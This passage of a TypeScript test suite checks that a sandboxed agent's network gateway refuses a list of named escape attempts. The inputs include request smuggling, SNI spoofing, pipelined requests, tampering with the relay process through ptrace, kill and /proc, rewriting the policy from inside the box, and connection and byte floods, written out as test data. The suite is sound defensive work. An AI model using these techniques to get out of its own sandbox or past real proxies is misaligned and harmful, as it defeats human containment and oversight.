      const tables = await context.main.sh(`grep -v ' lo$' /proc/net/if_inet6 | wc -l; awk '$10 != "lo"' /proc/net/ipv6_route | wc -l`);
      assert.equal(tables.stdout, '0\n0\n', 'an IPv6 address or route off lo');
      const direct = await nodeJson<Record<string, string>>(context.main, DIRECT, [['udp', '2001:db8::1', 443], ['tcp', '::1', denied.port], ['udp', '::ffff:192.0.2.1', 53]]);
      // No IPv6 address at all (EADDRNOTAVAIL), or no route (ENETUNREACH): either way nothing can be sent.
      for (const [attempt, code] of Object.entries(direct)) assert.ok(['EADDRNOTAVAIL', 'ENETUNREACH', 'ECONNREFUSED'].includes(code), `${attempt}: ${code}`);
      const curl = await context.main.sh(`curl -sS -g --noproxy '*' --max-time 5 -o /dev/null 'http://[::1]:${denied.port}/'; echo "curl=$?"; curl -sS -g --noproxy '' -o /dev/null -w '%{http_code}' 'http://[::1]:${denied.port}/hello/x'`);
      assert.match(curl.stdout, /^curl=7\n403$/, curl.stdout + curl.stderr);
      const results = await requests(context.main, [connect(`[::1]:${denied.port}`), get(`http://v6loopback.rebind.example.test:${denied.port}/`, `v6loopback.rebind.example.test:${denied.port}`)]);
      assertStatuses(results, '403', ['CONNECT [::1]', 'name → ::1']);
      seen.assertDeniedUntouched();
      assert.deepEqual(seen.dials(), []);
    },
  },
  {
    id: 'network.connect-port',
    category: 'network',
    title: 'CONNECT to an allowed host on a port its rule does not allow is refused, and the name is not looked up',
    attack: "Use a host pinned to one port (an HTTPS API) to reach its other services (SSH on 22, SMTP on 25) or the host's loopback ports through the tunnel.",
    async run(context) {
      const { allowed, denied } = context;
      const seen = await since(context);
      const texts = [connect(`pinned.example.test:${denied.port}`), connect('pinned.example.test:22'), connect('pinned.example.test:25'), connect('pinned.example.test:443'), get(`http://pinned.example.test:${denied.port}/hello/x`, `pinned.example.test:${denied.port}`)];
      const results = await requests(context.main, texts);
      assertStatuses(results, '403', texts);
      assert.match(results[1].received, /pinned\.example\.test:22 is not on the agent allowlist/);
      assert.deepEqual(seen.asked(), [], 'a port no rule allows is refused before any lookup');
      assert.deepEqual(seen.dials(), []);
      // Its own port works, so the refusals are the port's.
      const [tunnel] = await exchanges(context.main, [{ steps: [{ send: connect(`pinned.example.test:${allowed.port}`), until: ESTABLISHED }, { send: `GET /hello/pinned HTTP/1.1\r\nHost: pinned.example.test\r\nConnection: close\r\n\r\n`, until: 'hello pinned' }] }]);
      assert.match(tunnel.received, /hello pinned via pinned\.example\.test/, tunnel.received);
      assert.deepEqual(seen.dials(), [{ address: '127.0.0.2', port: allowed.port }]);
      seen.assertDeniedUntouched();
    },
  },
  {
    id: 'network.tunnel-host-header',
    category: 'network',
    title: 'inside a tunnel to an allowed host, a request for another Host still reaches only the allowed destination',
    attack: 'Open a CONNECT tunnel to an allowed host and send a request naming another host inside it, hoping the gateway routes by what is inside.',
    async run(context) {
      const { allowed, denied } = context;
      const seen = await since(context);
      const [tunnel] = await exchanges(context.main, [{
        steps: [
          { send: connect(`api.example.test:${allowed.port}`), until: ESTABLISHED },
          { send: `GET http://denied.example.test:${denied.port}/hello/inside HTTP/1.1\r\nHost: denied.example.test:${denied.port}\r\nConnection: close\r\n\r\n`, until: 'hello inside' },
        ],
      }]);
      // The allowed origin answered it: the tunnel's bytes went where the tunnel was allowed to go.
      assert.match(tunnel.received, new RegExp(`hello inside via denied\\.example\\.test:${denied.port}`), tunnel.received);
      assert.deepEqual(seen.allowedRequests(), [`GET http://denied.example.test:${denied.port}/hello/inside host=denied.example.test:${denied.port}`]);
      assert.deepEqual(seen.dials(), [{ address: '127.0.0.2', port: allowed.port }]);
      assert.deepEqual(seen.asked(), ['api.example.test']);
      const records = await seen.recordsWhen(context.main, (list) => attempts(list).length >= 1);
      assert.deepEqual(attempts(records).map((record) => [record.method, record.host, record.port, record.address]), [['CONNECT', 'api.example.test', allowed.port, '127.0.0.2']]);
      seen.assertDeniedUntouched();
    },
  },
  {
    id: 'network.in-box-relay',
    category: 'network',
    title: "a relay the box runs itself in front of the proxy gets exactly the proxy's answers",
    attack: 'Bypass the allowlist by forwarding CONNECTs through a relay inside the sandbox, if the proxy judges relayed connections differently from direct ones.',
    source: 'https://github.com/anthropics/claude-code/issues/87381',
    async run(context) {
      const { allowed, denied } = context;
      const seen = await since(context);
      const out = await nodeJson<Record<string, string>>(context.main, IN_BOX_RELAY, [
        ['denied-http', [`http://denied.example.test:${denied.port}/hello/x`]],
        ['denied-tunnel', ['--proxytunnel', `http://denied.example.test:${denied.port}/hello/x`]],
        ['literal-tunnel', ['--proxytunnel', `http://127.0.0.1:${denied.port}/hello/x`]],
        ['allowed-http', [`http://api.example.test:${allowed.port}/hello/x`]],
        ['allowed-tunnel', ['--proxytunnel', `http://api.example.test:${allowed.port}/hello/x`]],
      ]);
      assert.deepEqual(out, { 'denied-http': '403 000', 'denied-tunnel': '000 403', 'literal-tunnel': '000 403', 'allowed-http': '200 000', 'allowed-tunnel': '200 200' });
      assert.ok(!seen.asked().includes('denied.example.test'));
      assert.deepEqual(seen.dials(), [{ address: '127.0.0.2', port: allowed.port }, { address: '127.0.0.2', port: allowed.port }]);
      seen.assertDeniedUntouched();
    },
  },
  {
    id: 'network.allowed-host-as-proxy',
    category: 'network',
    title: 'a tunnel to an allowed host that is itself a proxy: the gateway judges and dials only that first hop',
    attack: 'Limit, shown: an allowed host that is itself an open proxy carries the box wherever that proxy will go, and the gateway sees only the first hop (inside TLS to it, nothing at all), so an open proxy must never be allowed.',
    source: 'https://github.com/anthropics/claude-code/issues/87381',
    async run(context, t) {
      const { proxy, beyond } = context;
      const seen = await since(context);
      const [tunnel] = await exchanges(context.main, [{
        steps: [
          { send: connect(`proxy.example.test:${proxy.port}`), until: ESTABLISHED },
          { send: connect(`127.0.0.1:${beyond.port}`), until: ESTABLISHED + ESTABLISHED },
          { send: `GET /hello/relayed HTTP/1.1\r\nHost: beyond\r\nConnection: close\r\n\r\n`, until: 'hello relayed' },
        ],
      }]);
      // What the gateway did: one decision, for proxy.example.test, and one dial, to its address.
      assert.ok(tunnel.received.startsWith(ESTABLISHED), tunnel.received);
      assert.deepEqual(seen.dials(), [{ address: '127.0.0.2', port: proxy.port }]);
      assert.deepEqual(seen.asked(), ['proxy.example.test']);
      const records = await seen.recordsWhen(context.main, (list) => attempts(list).length >= 1);
      assert.deepEqual(attempts(records).map((record) => [record.method, record.host, record.decision, record.address]), [['CONNECT', 'proxy.example.test', 'allow', '127.0.0.2']]);
      seen.assertDeniedUntouched();
      // What the allowed host did with it is its own business, which is the limit this case shows.
      t.diagnostic(`the allowed proxy relayed to ${proxy.requests.join(', ') || 'nothing'}; the destination behind it saw ${seen.beyondDelta()} connection(s); the box read ${JSON.stringify(tunnel.received.slice(2 * ESTABLISHED.length, 2 * ESTABLISHED.length + 80))}`);
    },
  },
  {
    id: 'network.host-url-mismatch',
    category: 'network',
    title: 'plain HTTP whose URL and Host disagree, origin-form requests and https:// URLs are refused before any lookup',
    attack: 'Have the rule check read one host (the URL, or the Host header) while the origin or a front end routes by the other.',
    source: 'https://github.com/anthropics/claude-code/issues/40213',
    async run(context) {
      const { allowed, denied } = context;
      const a = `api.example.test:${allowed.port}`;
      const d = `denied.example.test:${denied.port}`;
      const seen = await since(context);
      const texts = [
        get(`http://${a}/hello/x`, d),
        get(`http://${d}/hello/x`, a),
        get(`http://${a}/hello/x`, `api.example.test:${denied.port}`),
        `GET http://${a}/hello/x HTTP/1.1\r\nHost: ${a}\r\nHost: ${d}\r\n\r\n`,
        `GET http://${a}/hello/x HTTP/1.1\r\n\r\n`,
        get('/hello/x', a),
        get(`https://${a}/hello/x`, a),
        `GET http://${a}/hello/x HTTP/1.1\r\nHost: ${a}\nHost: ${d}\r\n\r\n`,
      ];
      const results = await requests(context.main, texts);
      assertStatuses(results, '400', texts);
      assert.match(results[0].received, /the URL's host api\.example\.test:\d+ and the Host header denied\.example\.test:\d+ disagree/);
      assert.deepEqual(seen.asked(), []);
      assert.deepEqual(seen.dials(), []);
      assert.equal(seen.allowedDelta(), 0);
      const records = await seen.recordsWhen(context.main, (list) => attempts(list).length >= texts.length);
      assert.ok(attempts(records).every((record) => record.status === 400 && record.decision === 'deny'), JSON.stringify(attempts(records)));
      seen.assertDeniedUntouched();
    },
  },
  {
    id: 'network.pipelined-request',
    category: 'network',
    title: 'a second request pipelined on a proxy connection never reaches the host it names',
    attack: 'Smuggle a request to a denied host behind an allowed one on the same proxy connection, which a proxy that judges only the first request would forward.',
    async run(context, t) {
      const { allowed, denied } = context;
      const a = `api.example.test:${allowed.port}`;
      const d = `denied.example.test:${denied.port}`;
      const seen = await since(context);
      const [result] = await exchanges(context.main, [{ steps: [{ send: get(`http://${a}/hello/first`, a) + get(`http://${d}/hello/second`, d), until: 'hello first' }] }]);
      assert.match(result.received, new RegExp(`^HTTP/1\\.1 200 OK\\r\\n[^]*hello first via ${a.replace(/\./g, '\\.')}\\n`), result.received);
      // Judged once, dialled once: the connection goes to the first request's origin and nowhere else.
      assert.deepEqual(seen.dials(), [{ address: '127.0.0.2', port: allowed.port }]);
      assert.deepEqual(seen.asked(), ['api.example.test']);
      const records = await seen.recordsWhen(context.main, (list) => attempts(list).length >= 1);
      assert.deepEqual(attempts(records).map((record) => [record.method, record.host, record.decision]), [['GET', 'api.example.test', 'allow']]);
      seen.assertDeniedUntouched();
      t.diagnostic(`the allowed origin answered: ${seen.allowedRequests().join(' | ')}`);
    },
  },
  {
    id: 'network.cl-te-conflict',
    category: 'network',
    title: 'a request whose body length two parsers could read differently (CL with TE, two CLs, TE not ending in chunked) is refused',
    attack: 'Desynchronise the gateway and the allowed origin (or a front end there) about where a body ends, so the rest of it is read as a second request the gateway never judged.',
    async run(context) {
      const { allowed, denied } = context;
      const a = `api.example.test:${allowed.port}`;
      const smuggled = `GET http://denied.example.test:${denied.port}/hello/smuggled HTTP/1.1\r\nHost: denied.example.test:${denied.port}\r\n\r\n`;
      const post = (headers: string, body: string, version = '1.1') => `POST http://${a}/hello/x HTTP/${version}\r\nHost: ${a}\r\n${headers}\r\n${body}`;
      const seen = await since(context);
      const texts = [
        post('Content-Length: 5\r\nTransfer-Encoding: chunked\r\n', `0\r\n\r\n${smuggled}`),
        post('Transfer-Encoding: chunked\r\nContent-Length: 200\r\n', `0\r\n\r\n${smuggled}`),
        post('Content-Length: 0\r\nContent-Length: 200\r\n', smuggled),
        post('Transfer-Encoding: chunked, identity\r\n', smuggled),
        post('Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n', `0\r\n\r\n${smuggled}`),
        post('Transfer-Encoding : chunked\r\n', `0\r\n\r\n${smuggled}`),
        post('Transfer-Encoding: chunked\r\n', `0\r\n\r\n${smuggled}`, '1.0'),
        post('Content-Length: 0x10\r\n', smuggled),
      ];
      const results = await requests(context.main, texts);
      assertStatuses(results, '400', texts);
      assert.deepEqual(seen.dials(), [], 'refused before any dial');
      assert.deepEqual(seen.asked(), []);
      assert.equal(seen.allowedDelta(), 0);
      const records = await seen.recordsWhen(context.main, (list) => attempts(list).length >= texts.length);
      assert.equal(attempts(records).filter((record) => record.status === 400 && record.decision === 'deny').length, texts.length);
      seen.assertDeniedUntouched();
    },
  },
  {
    id: 'network.tls-sni-mismatch',
    category: 'network',
    title: 'a tunnel allowed for one host whose TLS ClientHello names another is closed before the hello reaches the destination',
    attack: 'Open a tunnel to an allowed host that fronts many (a CDN, a TLS load balancer) and name a denied host in the SNI, so the front end routes the connection there.',
    async run(context) {
      const { tls } = context;
      const target = `api.example.test:${tls.port}`;
      const seen = await since(context);
      const first = tls.bytesPerConnection.length;
      const [mismatched, behindProxyHeader, matching] = await nodeJson<Array<{ established: boolean; body?: string; error?: string }>>(context.main, TLS_PROBE, [
        { target, servername: 'denied.example.test' },
        // A front end that takes a PROXY protocol header reads the SNI after it.
        { target, servername: 'denied.example.test', prefix: 'PROXY TCP4 203.0.113.5 127.0.0.2 40000 443\r\n' },
        { target, servername: 'api.example.test' },
      ]);
      for (const refused of [mismatched, behindProxyHeader]) {
        assert.equal(refused.established, true, JSON.stringify(refused));
        assert.ok(!refused.body, `the mismatched handshake completed: ${JSON.stringify(refused)}`);
      }
      assert.match(matching.body ?? '', /hello tls via api\.example\.test/, JSON.stringify(matching));
      // curl's --connect-to is the everyday way to send one name in the SNI and tunnel to another host.
      const curl = await context.main.sh(`curl -sSk -o /dev/null -w '%{http_code}' --connect-to denied.example.test:443:api.example.test:${tls.port} https://denied.example.test/hello/tls; echo " curl=$?"`);
      assert.match(curl.stdout, /^000 curl=(35|56)\n$/, curl.stdout + curl.stderr);
      assert.deepEqual(tls.bytesPerConnection.slice(first), [0, 0, tls.bytesPerConnection[first + 2], 0], 'bytes of a refused opening reached the destination');
      assert.ok(tls.bytesPerConnection[first + 2] > 0);
      const records = await seen.recordsWhen(context.main, (list) => attempts(list).length >= 4);
      const refused = attempts(records).filter((record) => record.closedBy === 'tls server name');
      assert.equal(refused.length, 3, JSON.stringify(attempts(records)));
      for (const record of refused) assert.deepEqual([record.method, record.host, record.decision, record.bytesUp], ['CONNECT', 'api.example.test', 'deny', 0]);
      assert.deepEqual(refused.map((record) => /PROXY protocol header/.test(String(record.reason)) ? 'proxy header' : /the TLS ClientHello names denied\.example\.test, not api\.example\.test/.test(String(record.reason)) ? 'sni' : String(record.reason)).sort(), ['proxy header', 'sni', 'sni']);
      assert.ok(!seen.asked().includes('denied.example.test'));
      seen.assertDeniedUntouched();
    },
  },
  {
    id: 'network.gateway-control-socket',
    category: 'network',
    title: "the gateway's control socket is not in the box, and control or frame bytes sent to the proxy are just a bad request",
    attack: "Switch the task's gateway back to the setup phase's rules, or shut it down, from inside the box.",
    async run(context) {
      const { main, allowed } = context;
      const before = await main.gateway({ op: 'status' });
      assert.equal(before.phase, 'agent');
      const look = await main.sh(`test -e '${main.controlSocket}'; echo "socket=$?"; ls '${main.stateDir}' 2>&1 | head -1; grep -c '${main.stateDir}' /proc/self/mountinfo; grep -c 'gateway.sock' /proc/net/unix`);
      assert.match(look.stdout, /^socket=1\n.*No such file or directory\n0\n0\n$/, look.stdout);
      const dial = await main.node(`require('net').connect(${JSON.stringify(main.controlSocket)}).on('error', (e) => console.log(e.code)).on('connect', () => console.log('connected'))`);
      assert.equal(dial.stdout, 'ENOENT\n');
      const results = await requests(main, ['{"op":"phase","phase":"setup"}\r\n\r\n', '{"op":"shutdown"}\n\r\n\r\n', '\u0008\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\r\n\r\n', '\u0004\u0000\u0000\u0000\u0001\u0000\u0000\u0000\u0000\r\n\r\n']);
      assertStatuses(results, '400', ['phase', 'shutdown', 'SHUTDOWN frame', 'CLOSE frame']);
      const afterwards = await main.gateway({ op: 'status' });
      assert.deepEqual([afterwards.ok, afterwards.phase, afterwards.relayPid, afterwards.pid], [true, 'agent', before.relayPid, before.pid]);
      const still = await main.sh(`curl -sS http://api.example.test:${allowed.port}/hello/still; curl -sS -o /dev/null -w '%{http_code}' http://setup-only.example.test:${allowed.port}/hello/setup`);
      assert.equal(still.stdout, `hello still via api.example.test:${allowed.port}\n403`, 'the setup rule must stay gone');
    },
  },
  {
    id: 'network.relay-process',
    category: 'network',
    title: "the relay runs as another user: the box cannot read or write its pipes, trace it, signal it or read its environment",
    attack: "Take over the relay's pipe to the host and speak the frame protocol directly, or stop the relay and put a listener of the box's own on the proxy port.",
    async run(context) {
      const { main, allowed } = context;
      const pid = main.relayPid();
      assert.ok(pid > 1);
      const ptrace = `my %nr = (x86_64 => 101, aarch64 => 117); my $r = syscall($nr{(POSIX::uname())[4]}, 16, ${pid}, 0, 0); print "ptrace=", ($r == -1 ? $! : "attached"), "\\n"`;
      const result = await main.sh(`awk '/^Uid:/ { print "uid=" $2 }' /proc/${pid}/status; ls /proc/${pid}/fd 2>&1 | head -1; (exec 3>/proc/${pid}/fd/0) 2>&1; (exec 3</proc/${pid}/fd/1) 2>&1; cat /proc/${pid}/environ 2>&1 | head -1; kill -STOP ${pid} 2>&1; perl -MPOSIX -e '${ptrace}'; node -e "require('net').createServer().listen(3128, '127.0.0.1').on('error', (e) => console.log('listen=' + e.code))"`);
      assert.match(result.stdout, /^uid=65534$/m);
      assert.equal((result.stdout.match(/Permission denied/g) ?? []).length, 4, result.stdout);
      assert.match(result.stdout, /kill: \(\d+\) - Operation not permitted\n/);
      assert.match(result.stdout, /^ptrace=Operation not permitted$/m);
      assert.match(result.stdout, /^listen=EADDRINUSE$/m);
      assert.equal((await main.gateway({ op: 'status' })).relayPid, pid);
      const still = await main.sh(`curl -sS http://api.example.test:${allowed.port}/hello/relay`);
      assert.equal(still.stdout, `hello relay via api.example.test:${allowed.port}\n`);
    },
  },
  {
    id: 'network.rules-from-box',
    category: 'network',
    title: "a policy file the box writes in its own /workspace is never read: the rules stay the host's",
    attack: 'Loosen the network rules from inside by writing a .airlock.json that allows more, in the copy of the workspace the box can write.',
    async run(context) {
      const { main, denied } = context;
      const seen = await since(context);
      const policy = JSON.stringify({ network: { agent: { allow: ['denied.example.test', 'setup-only.example.test'], allowCidr: ['127.0.0.0/8'] } } });
      await main.sh(`printf '%s' '${policy}' > /workspace/.airlock.json; sleep 1`);
      const tried = await main.sh(`for url in http://denied.example.test:${denied.port}/ http://127.0.0.1:${denied.port}/ http://setup-only.example.test:${context.allowed.port}/; do curl -sS --noproxy '' -o /dev/null -w '%{http_code} ' $url; done`);
      assert.equal(tried.stdout, '403 403 403 ', tried.stderr);
      await main.sh("printf '{' > /workspace/.airlock.json; sleep 1; rm /workspace/.airlock.json");
      const policyRecords = seen.records(main).filter((record) => record.type.startsWith('policy'));
      assert.deepEqual(policyRecords, [], 'the gateway read a policy file from inside the box');
      assert.ok(!seen.asked().includes('denied.example.test'));
      seen.assertDeniedUntouched();
    },
  },
  {
    id: 'resources.connection-flood',
    category: 'resources',
    title: 'a flood of connections at once: at most the connection limit is admitted, the rest get 503, and the gateway carries on',
    attack: "Exhaust the host's sockets or memory through the gateway by opening connections faster than they close.",
    async run(context) {
      const { main, allowed, limits } = context;
      const seen = await since(context);
      const count = 120;
      const statuses = await nodeJson<string[]>(main, FLOOD, { count, request: get(`http://api.example.test:${allowed.port}/slow`, `api.example.test:${allowed.port}`) });
      const admitted = statuses.filter((status) => status === '200').length;
      const refused = statuses.filter((status) => status === '503').length;
      assert.ok(admitted >= 1 && admitted <= limits.maxConnections, `${admitted} admitted: ${statuses.join(' ')}`);
      assert.equal(admitted + refused, count, `every connection gets an answer: ${statuses.join(' ')}`);
      assert.ok(seen.allowedDelta() <= limits.maxConnections, `${seen.allowedDelta()} connections reached the origin`);
      const records = await seen.recordsWhen(main, (list) => attempts(list).length >= count);
      assert.ok(records.some((record) => record.type === 'network.limit' && record.limit === 'maxConnections' && record.value === limits.maxConnections));
      assert.equal(attempts(records).filter((record) => record.rule === 'limit maxConnections' && record.status === 503).length, refused);
      assert.ok(await waitUntil(() => main.openConnections() === 0, 15_000), `${main.openConnections()} connections still open`);
      const after = await main.sh(`curl -sS http://api.example.test:${allowed.port}/hello/after`);
      assert.equal(after.stdout, `hello after via api.example.test:${allowed.port}\n`);
      assert.equal((await main.gateway({ op: 'status' })).ok, true);
    },
  },
  {
    id: 'resources.silent-connection',
    category: 'resources',
    title: 'a connection that sends nothing, before or after its tunnel opens, is closed at the idle timeout',
    attack: "Hold the gateway's connections (and their slots under the limit) open forever without sending a byte.",
    async run(context) {
      const { main, allowed, limits } = context;
      const seen = await since(context);
      const ms = 'echo $(( ($(date +%s%N) - start) / 1000000 ))';
      const result = await main.sh(`start=$(date +%s%N); ( exec 4<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT api.example.test:${allowed.port} HTTP/1.1\\r\\n\\r\\n' >&4; timeout 30 cat <&4 > /tmp/tunnel.out; echo "tunnel=$(${ms})" ) & exec 3<>/dev/tcp/127.0.0.1/3128; timeout 30 cat <&3; echo "silent=$(${ms})"; wait; head -c 39 /tmp/tunnel.out`);
      const [silent, tunnel] = ['silent', 'tunnel'].map((name) => Number(new RegExp(`${name}=(\\d+)`).exec(result.stdout)?.[1]));
      const idle = limits.idleTimeoutSeconds * 1000;
      for (const [name, elapsed] of [['silent', silent], ['tunnel', tunnel]] as const) assert.ok(elapsed >= idle - 500 && elapsed < idle + 8000, `${name} closed after ${elapsed} ms (idle timeout ${idle} ms): ${result.stdout}`);
      assert.ok(result.stdout.endsWith(ESTABLISHED), result.stdout);
      const records = await seen.recordsWhen(main, (list) => list.filter((record) => record.type === 'network.limit' && record.limit === 'idleTimeout').length >= 2);
      const idled = records.filter((record) => record.type === 'network.limit' && record.limit === 'idleTimeout');
      assert.equal(idled.length, 2, JSON.stringify(records));
      assert.deepEqual(idled.map((record) => record.target ?? null).sort(), [`api.example.test:${allowed.port}`, null]);
      assert.equal(attempts(records).filter((record) => record.closedBy === 'limit idleTimeout').length, 2);
    },
  },
  {
    id: 'resources.endless-transfer',
    category: 'resources',
    title: "an upload that never ends and a download flood are both ended by the task's byte limit, and later connections are refused",
    attack: "Move unbounded data through the gateway (an upload that never ends, a download flood) to exhaust the host's bandwidth or the task's disk.",
    timeoutMs: 180_000,
    async run(context) {
      const { limited, allowed, sink, limits } = context;
      const seen = await since(context);
      const script = [
        'exec 3<>/dev/tcp/127.0.0.1/3128',
        `printf 'CONNECT sink.example.test:${sink.port} HTTP/1.1\\r\\n\\r\\n' >&3`,
        'head -c 39 <&3; echo',
        // A slow upload that never stops on its own (64 KiB at a time), in the background.
        '( while :; do head -c 65536 /dev/zero || exit; sleep 0.05; done >&3 ) 2>/dev/null &',
        'up=$!',
        'sleep 1',
        `curl -sS --max-time 60 -o /tmp/down http://api.example.test:${allowed.port}/bytes/${4 * 1024 ** 3}; echo "curl=$?"`,
        'for i in $(seq 1 100); do kill -0 $up 2>/dev/null || break; sleep 0.2; done',
        'kill -0 $up 2>/dev/null && echo upload=running || echo upload=ended',
        'kill $up 2>/dev/null',
        'echo "down=$(stat -c %s /tmp/down)"',
        `curl -sS -w ' %{http_code}' http://api.example.test:${allowed.port}/hello/after`,
      ].join('\n');
      const started = Date.now();
      const result = await limited.sh(script);
      const elapsed = Date.now() - started;
      assert.ok(result.stdout.startsWith(`${ESTABLISHED}\n`), result.stdout);
      assert.match(result.stdout, /^upload=ended$/m, result.stdout);
      const curlExit = Number(/^curl=(\d+)$/m.exec(result.stdout)?.[1]);
      assert.ok(curlExit !== 0 && curlExit !== 28, `curl ended with ${curlExit}, not cut by the gateway: ${result.stdout}`);
      const down = Number(/^down=(\d+)$/m.exec(result.stdout)?.[1]);
      const up = sink.bytesPerConnection.reduce((sum, bytes) => sum + bytes, 0);
      assert.ok(down > 0 && up > 0, `down ${down}, up ${up}`);
      assert.ok(down + up <= limits.limitedMaxBytes, `${down} down + ${up} up is over the ${limits.limitedMaxBytes}-byte limit`);
      assert.match(result.stdout, /byte limit \(\d+\) is used up\n 403$/, result.stdout);
      assert.ok(elapsed < 60_000, `took ${elapsed} ms`);
      const records = await seen.recordsWhen(limited, (list) => attempts(list).length >= 3);
      assert.equal(records.filter((record) => record.type === 'network.limit' && record.limit === 'maxBytes').length, 1);
      assert.equal(attempts(records).filter((record) => record.closedBy === 'limit maxBytes').length, 2, JSON.stringify(attempts(records)));
    },
  },
]);

async function waitUntil(check: () => boolean, timeoutMs: number): Promise<boolean> {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    if (check()) return true;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  return check();
}
